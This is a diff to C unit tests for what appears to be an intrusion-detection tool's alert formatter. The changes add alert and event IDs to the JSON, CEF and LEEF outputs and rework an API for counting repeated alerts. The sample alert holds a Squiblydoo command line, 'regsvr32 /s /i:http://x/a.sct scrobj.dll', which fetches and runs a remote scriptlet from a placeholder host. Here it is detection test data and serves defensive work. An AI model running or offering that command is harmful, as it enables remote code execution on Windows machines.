@@ -7,6 +7,7 @@
 	"{\"@timestamp\":\"2020-07-22T03:27:52.809Z\",\"ecs\":{\"version\":\"8.17.0\"},"           \
 	"\"event\":{\"kind\":\"alert\",\"category\":[\"process\"],\"type\":[\"start\"],"           \
 	"\"code\":\"1\",\"provider\":\"Microsoft-Windows-Sysmon\",\"severity\":73,"                \
+	"\"id\":\"0123456789abcdeffedcba9876543210\","                                             \
 	"\"created\":\"2020-07-22T03:28:00.000Z\",\"original\":\"{\\\"EventID\\\":1}\"},"          \
 	"\"message\":\"Scriptlet run by regsvr32 on WS5.example.com\","                            \
 	"\"rule\":{\"id\":\"6a1b0b0c-1111-4222-8333-444455556666\","                               \
@@ -29,7 +30,8 @@
 	"\"computer_name\":\"WS5.example.com\"},"                                                  \
 	"\"observer\":{\"vendor\":\"squiblyd\",\"product\":\"squiblyd\",\"type\":\"ids\","         \
 	"\"version\":\"0.1.0\",\"hostname\":\"sensor1\"},"                                         \
-	"\"squibly\":{\"peer\":\"192.0.2.7:51234\",\"shape\":\"nxlog\","                           \
+	"\"squibly\":{\"event_id\":\"11111111111111110000000000000022\","                          \
+	"\"peer\":\"192.0.2.7:51234\",\"shape\":\"nxlog\","                                        \
 	"\"selections\":[\"program\",\"engine\"],"                                                 \
 	"\"matched\":[{\"field\":\"CommandLine\","                                                 \
 	"\"value\":\"regsvr32 /s /i:http://x/a.sct scrobj.dll\"}]}}"
@@ -71,10 +73,12 @@ static void the_attack_as_cef(void **state)
 	assert_string_equal(
 		text,
 		"CEF:0|squiblyd|squiblyd|0.1.0|6a1b0b0c-1111-4222-8333-444455556666|"
-		"Scriptlet run by regsvr32|8|rt=1595388472809 dvchost=sensor1 "
+		"Scriptlet run by regsvr32|8|rt=1595388472809 "
+		"externalId=0123456789abcdeffedcba9876543210 dvchost=sensor1 "
 		"dhost=WS5.example.com dntdom=EXAMPLE duser=alice "
 		"dproc=C:\\\\Windows\\\\System32\\\\regsvr32.exe dpid=9384 cat=T1218.010,T1105 "
-		"externalId=4711 deviceFacility=Microsoft-Windows-Sysmon/Operational "
+		"deviceFacility=Microsoft-Windows-Sysmon/Operational "
+		"cn1Label=recordId cn1=4711 squiblydEventId=11111111111111110000000000000022 "
 		"cs1Label=commandLine cs1=regsvr32 /s /i:http://x/a.sct scrobj.dll "
 		"cs2Label=parentProcess cs2=C:\\\\Windows\\\\System32\\\\cmd.exe "
 		"cs3Label=parentCommandLine cs3=cmd /c \"run\" cs4Label=eventCode cs4=1 "
@@ -93,7 +97,8 @@ static void the_attack_as_leef(void **state)
 	text = sample_text(&s, SQ_FORMAT_LEEF);
 	assert_string_equal(
 		text, "LEEF:2.0|squiblyd|squiblyd|0.1.0|6a1b0b0c-1111-4222-8333-444455556666|x09|"
-		      "devTime=1595388472809\tsev=8\tcat=T1218.010,T1105\t"
+		      "devTime=1595388472809\tsev=8\talertId=0123456789abcdeffedcba9876543210\t"
+		      "cat=T1218.010,T1105\t"
 		      "identHostName=WS5.example.com\tdomain=EXAMPLE\tusrName=alice\t"
 		      "ruleName=Scriptlet run by regsvr32\tlevel=high\t"
 		      "process=C:\\Windows\\System32\\regsvr32.exe\tprocessId=9384\t"
@@ -101,6 +106,7 @@ static void the_attack_as_leef(void **state)
 		      "parentProcess=C:\\Windows\\System32\\cmd.exe\t"
 		      "parentCommandLine=cmd /c \"run\"\t"
 		      "channel=Microsoft-Windows-Sysmon/Operational\teventCode=1\trecordId=4711\t"
+		      "eventId=11111111111111110000000000000022\t"
 		      "matched=CommandLine: regsvr32 /s /i:http://x/a.sct scrobj.dll\t"
 		      "peer=192.0.2.7:51234\tobserver=sensor1");
 	free(text);
@@ -272,14 +278,14 @@ static void the_sender_is_named_as_far_as_it_was_proved(void **state)
 	s.alert.identity = &somebody;
 	text = sample_text(&s, SQ_FORMAT_JSON);
 	assert_non_null(
-		strstr(text,
-	               "\"hostname\":\"sensor1\"},"
-	               "\"client\":{\"user\":{\"name\":\"nxlog-site-7\"}},"
-	               "\"tls\":{\"client\":{\"subject\":\"CN=ws-7,O=Example\","
-	               "\"x509\":{\"alternative_names\":[\"ws-7.example.org\",\"192.0.2.7\","
-	               "\"a@example.org\",\"urn:x:y\",\"odd\"]}}},"
-	               "\"squibly\":{\"peer\":\"192.0.2.7:51234\",\"proxy\":\"198.51.100.1:40000\","
-	               "\"shape\":\"nxlog\","));
+		strstr(text, "\"hostname\":\"sensor1\"},"
+	                     "\"client\":{\"user\":{\"name\":\"nxlog-site-7\"}},"
+	                     "\"tls\":{\"client\":{\"subject\":\"CN=ws-7,O=Example\","
+	                     "\"x509\":{\"alternative_names\":[\"ws-7.example.org\",\"192.0.2.7\","
+	                     "\"a@example.org\",\"urn:x:y\",\"odd\"]}}},"
+	                     "\"squibly\":{\"event_id\":\"11111111111111110000000000000022\","
+	                     "\"peer\":\"192.0.2.7:51234\",\"proxy\":\"198.51.100.1:40000\","
+	                     "\"shape\":\"nxlog\","));
 	free(text);
 	text = sample_text(&s, SQ_FORMAT_CEF);
 	assert_true(sq_sv_ends(
@@ -385,8 +391,20 @@ static void repeats_are_counted_in_their_place(void **state)
 		struct sq_outbuf out = sq_outbuf_of(1 << 20);
 		char *text = sample_text(&s, (enum sq_format)f);
 
-		sq_alert_write_repeats(&out, (enum sq_format)f, sq_sv_of(text), UINT64_MAX);
+		sq_alert_write_repeats(&out, (enum sq_format)f,
+		                       &(struct sq_alert_repeats){
+					       .text = sq_sv_of(text),
+					       .last = { s.alert.id[0], s.alert.id[1] },
+					       .id = { 0xabc, 0xdef },
+					       .n = UINT64_MAX,
+				       });
 		assert_true(sq_sv_ends(sq_outbuf_view(&out), sq_sv_of(ends[f])));
+		assert_int_equal(sq_sv_find(sq_outbuf_view(&out),
+		                            SQ_SV("0000000000000abc0000000000000def")),
+		                 strstr(text, "0123456789abcdeffedcba9876543210") - text);
+		assert_int_equal(sq_sv_find(sq_outbuf_view(&out),
+		                            SQ_SV("0123456789abcdeffedcba9876543210")),
+		                 SIZE_MAX);
 		if (f == SQ_FORMAT_JSON) {
 			yajl_val tree;
 
@@ -405,7 +423,9 @@ static void a_text_that_is_no_alert_is_repeated_as_it_is(void **state)
 	struct sq_outbuf out = sq_outbuf_of(100);
 
 	(void)state;
-	sq_alert_write_repeats(&out, SQ_FORMAT_JSON, SQ_SV("x}"), 3);
+	sq_alert_write_repeats(&out, SQ_FORMAT_JSON,
+	                       &(struct sq_alert_repeats){
+				       .text = SQ_SV("x}"), .last = { 1, 2 }, .n = 3 });
 	assert_sv_equal(sq_outbuf_view(&out), SQ_SV("x}"));
 	sq_outbuf_fini(&out);
 }
